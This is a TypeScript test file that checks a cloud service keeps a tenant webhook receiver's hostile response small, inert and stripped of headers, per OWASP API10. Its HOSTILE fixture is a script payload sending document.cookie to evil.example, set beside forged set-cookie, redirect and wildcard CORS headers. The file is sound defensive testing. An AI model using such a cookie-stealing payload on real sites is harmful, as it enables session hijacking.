/**
 * OWASP API10:2023 Unsafe Consumption of APIs. The one API the cloud consumes is its
 * tenants' webhook receivers: their answers are untrusted. Of an answer only the status, a bounded
 * Retry-After and the first KiB of the body are kept; the body is shown to admins as a JSON string,
 * under headers that forbid running or framing it, and none of the receiver's headers is passed on.
 */
import { afterAll, beforeAll, expect, it } from 'vitest'
import { API_CSP } from '../../../cloud/plugins/security-headers.js'
import { describeEachDatabase } from '../../support/cloud-harness.js'
import { WebhookReceiver } from '../../support/webhook-receiver.js'
import { createEndpoint, newTenantConsole, waitForDelivery } from '../features/webhooks/webhook-kit.js'

const receiver = new WebhookReceiver()
beforeAll(() => receiver.start())
afterAll(() => receiver.stop())

const HOSTILE = `<html><script>document.location='https://evil.example/?'+document.cookie</script>${'A'.repeat(100_000)}</html>`

describeEachDatabase(
  "OWASP API10: a webhook receiver's answer is kept small, inert and to itself",
  (cloud) => {
    it('keeps the first KiB of a hostile answer as text, and passes on none of its headers', async () => {
      receiver.respondAt('/hostile', {
        status: 200,
        headers: {
          'content-type': 'text/html',
          'set-cookie': 'hajri_session=stolen; Path=/',
          location: 'https://evil.example/',
          'access-control-allow-origin': '*',
        },
        body: HOSTILE,
      })
      const api = await newTenantConsole(cloud)
      const { id } = await createEndpoint(api, { url: receiver.url('/hostile'), events: ['webhook.test'] })
      expect((await api.post(`/webhooks/${id}/test`)).statusCode).toBe(202)
      const delivery = await waitForDelivery(api, id, (d) => d.attempts >= 1)
      expect(delivery.status).toBe('succeeded')
      const detail = await api.get(`/webhook-deliveries/${delivery.id}`)
      expect(detail.headers['content-type']).toMatch(/^application\/json/)
      expect(detail.headers['content-security-policy']).toBe(API_CSP)
      expect(detail.headers['x-content-type-options']).toBe('nosniff')
      expect(detail.headers['set-cookie']).toBeUndefined()
      expect(detail.headers.location).toBeUndefined()
      expect(detail.headers['access-control-allow-origin']).toBeUndefined()
      const kept = detail.json().attemptLog[0].responseBody as string
      expect(Buffer.byteLength(kept)).toBeLessThanOrEqual(1024)
      expect(HOSTILE.startsWith(kept)).toBe(true)
    })
  },
  { webhooks: { retrySchedule: [0], allowlist: ['127.0.0.1'] } },
)
